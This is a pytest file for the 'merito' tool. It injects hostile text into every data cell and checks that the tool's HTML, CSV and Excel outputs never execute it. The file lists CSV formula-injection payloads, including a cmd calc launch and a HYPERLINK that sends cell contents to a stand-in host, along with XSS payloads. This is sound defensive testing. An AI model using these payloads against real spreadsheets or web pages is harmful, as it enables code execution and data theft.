"""Hostile text in every text cell of the examples: no page and no spreadsheet executes it, in any written file."""

import csv
import io
import re
import shutil
import zipfile
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from itertools import cycle, product
from pathlib import Path

import pytest
import tomli
from click.testing import CliRunner, Result
from faults.harmed import files, write_workspace
from openpyxl import load_workbook

from merito import Table
from merito.cli import app
from merito.testing import Regulations, installed_regulations

EXAMPLES = Path(__file__).parents[2] / "examples"
HOSTILE = (
    '=HYPERLINK("http://x.invalid/?"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title></style><svg onload=alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "a;=1+1;@x",
    'a";=1+1;"',
    "a\n=1+1",
    "javascript:alert(1)",
    "\uff1d1+1",
    "[link](javascript:alert(1)) &lt;b&gt; &amp;",
)
SIGNED = re.compile(r"(^|[,;\t\r\n])([ \"]*)'(?=[=+@\uff1d\uff0b\uff0d\uff20-])")
RUNS = re.compile(r'[ "]*(?:[=+@\uff1d\uff0b\uff0d\uff20]|-(?!(?:[0-9][0-9.,]*(?:%|/[0-9]+)?)?[ "]*$))')
NAMES = {
    ("acts", "kind"),
    ("acts", "contents"),
    ("amendments", "table"),
    ("amendments", "column"),
}  # of a layer's declarations
NOMINAL = ("names.csv", "anagrafe.csv")
LICENCE = "https://creativecommons.org/licenses/by/4.0/"
MARKS = ("alert(1)", "cmd|", "HYPERLINK", "7*7")


def invoke(*words: object) -> Result:
    return CliRunner().invoke(app, [str(word) for word in words], catch_exceptions=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """All the examples, with hostile text in every text, run together and prepared for the next year."""
    root = tmp_path_factory.mktemp("hostile") / "examples"
    ignored = shutil.ignore_patterns("out", "out-*", "registro.sqlite*", "*.xlsx", "*.ods")
    shutil.copytree(EXAMPLES, root, ignore=ignored)
    texts, regulations = cycle(HOSTILE), installed_regulations()
    parts = sorted(path.parent for path in root.rglob("merito.toml"))
    for part in parts:
        spoil(part, regulations, texts)
    ran = invoke("run", root, "--as-of", "2022-06-01", "--jobs", "2")
    assert ran.exit_code == 1, ran.output
    assert "errore del programma" not in ran.output, ran.output
    assert {"bergamo", "brescia", "camera-di-prova", "rocca-alta"} <= {
        path.parts[-3] for path in root.glob("out/*/*/summary.json")
    }
    for part in parts:
        year = tomli.loads((part / "merito.toml").read_text(encoding="utf-8"))["workspace"].get("year")
        if year and list(part.glob("enti/*/ente.toml")):
            assert invoke("new-year", part, "--from", year).exit_code in (0, 1)
    assert invoke("init", root / "nuovo", "--regulation", "brescia").exit_code == 0
    return root


def spoil(part: Path, regulations: Regulations, texts: Iterator[str]) -> None:
    tables: Mapping[str, Table] = {}
    for path in sorted(part.glob("enti/*/ente.toml")):
        text = path.read_text(encoding="utf-8")
        tables = regulations.stack(tomli.loads(text)["regulation"]).inputs.tables
        path.write_text(re.sub(r"(?m)^name = .*$", lambda _: f"name = '''{next(texts)} '''", text), encoding="utf-8")
        for table in path.parent.rglob("*.csv"):
            if table.name not in NOMINAL:
                spoil_table(table, tables, texts)
    for path in part.glob("*.csv"):
        spoil_table(path, tables, texts)


def spoil_table(path: Path, tables: Mapping[str, Table], texts: Iterator[str]) -> None:
    heads, *rows = read(path)
    for column in text_columns(path.stem, heads, tables):
        for row in rows:
            if row[column]:
                row[column] = next(texts)
    write(path, [heads, *rows])


def read(path: Path) -> list[list[str]]:
    """The rows of an Italian table."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def write(path: Path, rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")


def text_columns(name: str, heads: list[str], tables: Mapping[str, Table]) -> list[int]:
    """The columns of free text of a table by its Italian name."""
    (table,) = (one for one in tables.values() if one.label == name)
    texts = {
        one.label
        for one in table.columns.values()
        if one.kind == "text" and one.name not in table.key and (table.name, one.name) not in NAMES
    }
    return [number for number, head in enumerate(heads) if head in texts]


class Page(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.long
def test_no_page_has_a_tag_or_an_attribute_of_the_data(hostile: Path) -> None:
    pages = list((hostile / "out").rglob("*.html"))
    assert len(pages) > 8
    shown = ""
    for path in pages:
        page = Page()
        page.feed(path.read_text(encoding="utf-8"))
        assert not page.tags & {"script", "img", "iframe", "object", "embed", "form", "base"}
        assert not [name for name, _ in page.attributes if name.startswith("on") or name == "srcdoc"]
        links = {value.strip().casefold() for name, value in page.attributes if name in ("href", "src", "action")}
        piece = path.name == "frammento.html"  # it is pasted into a page, and links to the text of its licence
        links -= {LICENCE} if piece else set()
        assert not [link for link in links if link.startswith(("javascript:", "data:", "http")) and link != "data:,"]
        allowed = ("content", "default-src 'none'; style-src 'unsafe-inline'; img-src data:")
        assert piece or allowed in page.attributes
        shown += page.text
    assert all(mark in shown for mark in MARKS)


@pytest.mark.long
def test_no_cell_of_a_csv_is_run_at_whatever_separator_it_is_cut(hostile: Path) -> None:
    written = {
        name: one for name, one in files(hostile).items() if name.endswith(".csv") and is_written(hostile / name)
    }
    assert len(written) > 80
    assert {name.split("/")[0] for name in written} >= {"out", "nuovo", "brescia"}
    marked = 0
    for name, content in written.items():
        text = content.decode("utf-8")
        for delimiter in (",", ";", "\t"):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            assert not [cell for row in rows for cell in row if RUNS.match(cell)], (name, delimiter)
        assert not [piece for piece in re.split(r"[;\t\r\n]", text) if RUNS.match(piece)], name
        marked += text.count("'=") + text.count("'+") + text.count("'@")
    assert marked > 100


def is_written(path: Path) -> bool:
    """Whether merito wrote a file: a result, or a table of a year that was prepared."""
    return (
        "out" in path.parts
        or "nuovo" in path.parts
        or (path.parent.name == "2022" and path.parent.parent.parent.name == "enti")
    )


@pytest.mark.long
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(hostile: Path) -> None:
    books = [path for path in hostile.rglob("*.xlsx") if "out" in path.parts]
    assert len(books) > 10
    seen = ""
    for path in books:
        with zipfile.ZipFile(path) as archive:
            names = archive.namelist()
            assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
            for name in names:
                part = archive.read(name)
                assert b"<f>" not in part and b"<hyperlink" not in part and b'Target="http://x' not in part
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                assert not [cell for cell in row if cell.data_type == "f"]
                seen += "".join(cell.value for cell in row if isinstance(cell.value, str))
    assert all(mark in seen for mark in MARKS)


@pytest.mark.long
def test_what_a_new_year_carries_over_is_read_back_as_it_was(hostile: Path) -> None:
    compared = 0
    for path in hostile.rglob("2022/*.csv"):
        before = path.parent.with_name("2021") / path.name
        if not is_written(path) or not before.is_file():
            continue
        known = {cell for row in read(before) for cell in row} | {""}
        found = {SIGNED.sub(r"\1\2", cell) for row in read(path) for cell in row}
        assert found <= known
        compared += len(found)
    assert compared > 50


NUMBERS = ["-5", "-1.50", "-1,5", "-12%", "-800/11", "-", "0", "2021-06-30", "100/11", "5-3"]
ODD = [*NUMBERS, *map("".join, product("=+-@'\uff1d1 ", "=-'\"; a", "=,;1-\tè"))]


def test_a_cell_that_is_made_safe_is_read_back_and_safe(tmp_path: Path) -> None:
    """Titles are carried over twice: what was written is safe, is read as it was, and a number stays a number."""
    root = write_workspace(tmp_path / "spazio")
    titles = dict.fromkeys(one.strip() for one in ODD)
    units = root / "enti/alfa/2020/units.csv"
    with units.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("id", "name"), *((f"U{number}", one) for number, one in enumerate(titles))])
    written = []
    for year in ("2020", "2021"):
        ran = invoke("new-year", root, "--from", year)
        assert ran.exit_code == 0, ran.output
        written.append((root / f"enti/alfa/{int(year) + 1}/units.csv").read_bytes().decode("utf-8"))
    assert written[0] == written[1]
    names = [row[1] for row in csv.reader(io.StringIO(written[0], newline=""), delimiter=";")][1:]
    assert len(names) == len(titles) > 300
    assert names[: len(NUMBERS)] == NUMBERS
    assert not [piece for name in names for piece in re.split(r"[,;\t\r\n]", name) if RUNS.match(piece)]
